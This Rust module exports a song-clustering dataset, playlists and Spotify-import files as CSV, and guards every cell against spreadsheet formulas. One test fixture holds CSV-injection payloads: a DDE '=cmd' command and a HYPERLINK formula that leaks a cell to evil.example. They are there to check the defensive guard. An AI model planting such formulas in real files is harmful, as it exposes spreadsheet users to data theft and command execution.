//! Stage 7: the dataset as CSV with every original column plus the results of this run.

use csv::{Writer, WriterBuilder};
use thiserror::Error;

use crate::pipeline::input::load::Table;
use crate::pipeline::input::track_id::{track_id, track_id_column};
use crate::pipeline::output::spreadsheet::guard;

#[derive(Debug, Error)]
pub enum ExportError {
    #[error("Could not write the CSV: {0}")]
    Write(String),
}

/// The one CSV writer every export goes through: RFC 4180 quoting by the csv crate, and every
/// cell through `spreadsheet::guard`, so no export carries a live spreadsheet formula.
pub struct CsvOut {
    writer: Writer<Vec<u8>>,
}

impl CsvOut {
    /// A writer whose output is expected to be about `bytes` long.
    pub fn with_capacity(bytes: usize) -> CsvOut {
        CsvOut { writer: WriterBuilder::new().from_writer(Vec::with_capacity(bytes)) }
    }

    pub fn row<S: AsRef<str>>(&mut self, cells: impl IntoIterator<Item = S>) -> Result<(), ExportError> {
        let error = |e: csv::Error| ExportError::Write(e.to_string());
        for cell in cells {
            self.writer.write_field(guard(cell.as_ref()).as_bytes()).map_err(error)?;
        }
        // An empty record ends the one written field by field (the csv crate's way).
        self.writer.write_record(None::<&[u8]>).map_err(error)
    }

    pub fn finish(self) -> Result<String, ExportError> {
        let bytes = self.writer.into_inner().map_err(|e| ExportError::Write(e.to_string()))?;
        String::from_utf8(bytes).map_err(|e| ExportError::Write(e.to_string()))
    }
}

/// What a run adds to each usable row.
pub struct RunColumns<'a> {
    /// Table row index of each result row.
    pub rows: &'a [usize],
    pub labels: &'a [usize],
    pub codes: &'a [f32],
    pub dim: usize,
    /// `[x, y]` per result row.
    pub map: &'a [f32],
    /// Each cluster's name, by cluster id.
    pub names: &'a [String],
}

/// Original columns, then `cluster`, `cluster_name`, `z0..z{dim-1}`, `map_x`, `map_y`. Rows that were set aside
/// (bad values) keep their original cells and get empty result cells, so no song is lost.
pub fn export_csv(table: &Table, run: &RunColumns) -> Result<String, ExportError> {
    let mut result_of = vec![None; table.n_rows()];
    for (i, &r) in run.rows.iter().enumerate() {
        if let Some(slot) = result_of.get_mut(r) {
            *slot = Some(i);
        }
    }
    let mut w = CsvOut::with_capacity(table.n_rows() * 128);
    let extra = run.dim + 4;
    let mut header: Vec<String> = table.headers.clone();
    header.extend(["cluster".to_string(), "cluster_name".to_string()]);
    header.extend((0..run.dim).map(|j| format!("z{j}")));
    header.extend(["map_x".to_string(), "map_y".to_string()]);
    w.row(&header)?;
    let mut record: Vec<String> = Vec::with_capacity(header.len());
    for (r, result) in result_of.iter().enumerate() {
        record.clear();
        record.extend(table.row(r).map(str::to_string));
        match *result {
            Some(i) => push_results(&mut record, run, i),
            None => record.extend(std::iter::repeat_n(String::new(), extra)),
        }
        w.row(&record)?;
    }
    w.finish()
}

fn push_results(record: &mut Vec<String>, run: &RunColumns, i: usize) {
    let label = run.labels[i];
    record.push(label.to_string());
    record.push(run.names.get(label).cloned().unwrap_or_default());
    record.extend(run.codes[i * run.dim..(i + 1) * run.dim].iter().map(|v| v.to_string()));
    record.push(run.map[2 * i].to_string());
    record.push(run.map[2 * i + 1].to_string());
}

/// What a playlist export adds to each song, when a run has clustered it.
pub struct PlaylistSong {
    pub table_row: usize,
    /// Cluster id and name, if the song is in the last run.
    pub cluster: Option<(usize, String)>,
}

/// The playlist in its order: `position`, every original column, `cluster`, `cluster_name`.
/// Rows beyond the table (a playlist saved for another version of the file) are skipped.
pub fn playlist_csv(table: &Table, songs: &[PlaylistSong]) -> Result<String, ExportError> {
    let mut w = CsvOut::with_capacity(songs.len() * 128 + 256);
    let mut header = vec!["position".to_string()];
    header.extend(table.headers.iter().cloned());
    header.extend(["cluster".to_string(), "cluster_name".to_string()]);
    w.row(&header)?;
    let present = songs.iter().filter(|s| s.table_row < table.n_rows());
    for (position, song) in present.enumerate() {
        let mut record = vec![(position + 1).to_string()];
        record.extend(table.row(song.table_row).map(str::to_string));
        match &song.cluster {
            Some((id, name)) => record.extend([id.to_string(), name.clone()]),
            None => record.extend([String::new(), String::new()]),
        }
        w.row(&record)?;
    }
    w.finish()
}

/// The playlist as playlist importers for Spotify read it: `Track URI` (`spotify:track:…`, empty
/// where the file has no id for the song) first, then `Track Name` and `Artist Name(s)`
/// (Exportify's headers), in the playlist's order. Returns the CSV and how many songs have a URI.
pub fn spotify_csv(
    table: &Table,
    title: Option<usize>,
    artist: Option<usize>,
    table_rows: &[usize],
) -> Result<(String, usize), ExportError> {
    let ids = track_id_column(&table.headers);
    let mut w = CsvOut::with_capacity(table_rows.len() * 96 + 64);
    w.row(["Track URI", "Track Name", "Artist Name(s)"])?;
    let mut with_uri = 0;
    for &row in table_rows.iter().filter(|&&r| r < table.n_rows()) {
        let uri = ids.and_then(|c| track_id(table.cell(row, c))).map(|id| format!("spotify:track:{id}"));
        with_uri += usize::from(uri.is_some());
        let cell = |c: Option<usize>| c.map_or("", |c| table.cell(row, c));
        w.row([uri.as_deref().unwrap_or(""), cell(title), cell(artist)])?;
    }
    Ok((w.finish()?, with_uri))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::input::load::parse_csv;

    #[test]
    fn the_spotify_file_starts_with_track_uris() {
        let src = "track_id,track_name,track_artist\n4uLU6hMCjMI75M1A2tKUQC,\"Song, one\",A\n,Two,B\nspotify:track:7ouMYWpwJ422jRcDASZB7P,Three,C\n";
        let t = parse_csv(src.as_bytes()).unwrap();
        let (csv, with_uri) = spotify_csv(&t, Some(1), Some(2), &[2, 0, 1, 9]).unwrap();
        assert_eq!(with_uri, 2);
        assert_eq!(
            csv,
            "Track URI,Track Name,Artist Name(s)\nspotify:track:7ouMYWpwJ422jRcDASZB7P,Three,C\nspotify:track:4uLU6hMCjMI75M1A2tKUQC,\"Song, one\",A\n,Two,B\n"
        );
        let (no_ids, none) = spotify_csv(&parse_csv(b"name\nX\n").unwrap(), Some(0), None, &[0]).unwrap();
        assert_eq!((no_ids.as_str(), none), ("Track URI,Track Name,Artist Name(s)\n,X,\n", 0));
    }

    #[test]
    fn round_trip_keeps_rows_and_adds_results() {
        let src = "song,energy\n\"A, with comma\",1\n\"Quote \"\"B\"\"\",x\nC,3\n";
        let t = parse_csv(src.as_bytes()).unwrap();
        let run = RunColumns {
            rows: &[0, 2],
            labels: &[1, 0],
            codes: &[0.5, 0.25, 1.0, 2.0],
            dim: 2,
            map: &[1.0, 2.0, 3.0, 4.0],
            names: &["calm".to_string(), "loud, \"fast\"".to_string()],
        };
        let out = export_csv(&t, &run).unwrap();
        let back = parse_csv(out.as_bytes()).unwrap();
        assert_eq!(back.headers, ["song", "energy", "cluster", "cluster_name", "z0", "z1", "map_x", "map_y"]);
        for r in 0..3 {
            assert_eq!(back.cell(r, 0), t.cell(r, 0));
            assert_eq!(back.cell(r, 1), t.cell(r, 1));
        }
        assert_eq!(back.row(0).skip(2).collect::<Vec<_>>(), ["1", "loud, \"fast\"", "0.5", "0.25", "1", "2"]);
        assert_eq!(back.cell(1, 2), "");
        assert_eq!(back.cell(2, 2), "0");
        assert_eq!(back.cell(2, 3), "calm");
    }

    #[test]
    fn no_export_carries_a_formula_and_reimport_gives_the_cells_back() {
        let src = "song,artist,energy,=cmd|' /C calc'!A0\n\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click me\"\")\",@ ME,-6.5,'Til Tuesday\n+1+1,-- x --,0.5,\"'=1\"\n";
        let t = parse_csv(src.as_bytes()).unwrap();
        let names = ["=1+1".to_string(), "@evil".to_string()];
        let run = RunColumns {
            rows: &[0, 1],
            labels: &[0, 1],
            codes: &[-0.5, 1.0],
            dim: 1,
            map: &[-1.0, 2.0, 3.0, -4.0],
            names: &names,
        };
        let out = export_csv(&t, &run).unwrap();
        assert_eq!(
            out,
            "song,artist,energy,'=cmd|' /C calc'!A0,cluster,cluster_name,z0,map_x,map_y\n\
             \"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click me\"\")\",'@ ME,-6.5,'Til Tuesday,0,'=1+1,-0.5,-1,2\n\
             '+1+1,'-- x --,0.5,'=1,1,'@evil,1,3,-4\n"
        );
        let back = parse_csv(out.as_bytes()).unwrap();
        assert_eq!(back.headers[..4], t.headers[..]);
        for r in 0..2 {
            assert_eq!(back.row(r).take(4).collect::<Vec<_>>(), t.row(r).collect::<Vec<_>>(), "row {r}");
        }
        assert_eq!(back.cell(0, 5), "=1+1");
        let playlist = playlist_csv(&t, &[PlaylistSong { table_row: 0, cluster: Some((0, "=1+1".into())) }]).unwrap();
        assert!(
            playlist.contains("\"'=HYPERLINK(") && playlist.ends_with(",'@ ME,-6.5,'Til Tuesday,0,'=1+1\n"),
            "{playlist}"
        );
    }

    #[test]
    fn playlist_keeps_its_order_and_skips_unknown_rows() {
        let t = parse_csv(b"song,energy\nA,1\nB,2\nC,3\n").unwrap();
        let songs = [
            PlaylistSong { table_row: 2, cluster: Some((4, "Dance-like".into())) },
            PlaylistSong { table_row: 7, cluster: None },
            PlaylistSong { table_row: 0, cluster: None },
        ];
        let back = parse_csv(playlist_csv(&t, &songs).unwrap().as_bytes()).unwrap();
        assert_eq!(back.headers, ["position", "song", "energy", "cluster", "cluster_name"]);
        assert_eq!(back.n_rows(), 2);
        assert_eq!(back.row(0).collect::<Vec<_>>(), ["1", "C", "3", "4", "Dance-like"]);
        assert_eq!(back.row(1).collect::<Vec<_>>(), ["2", "A", "1", "", ""]);
    }
}
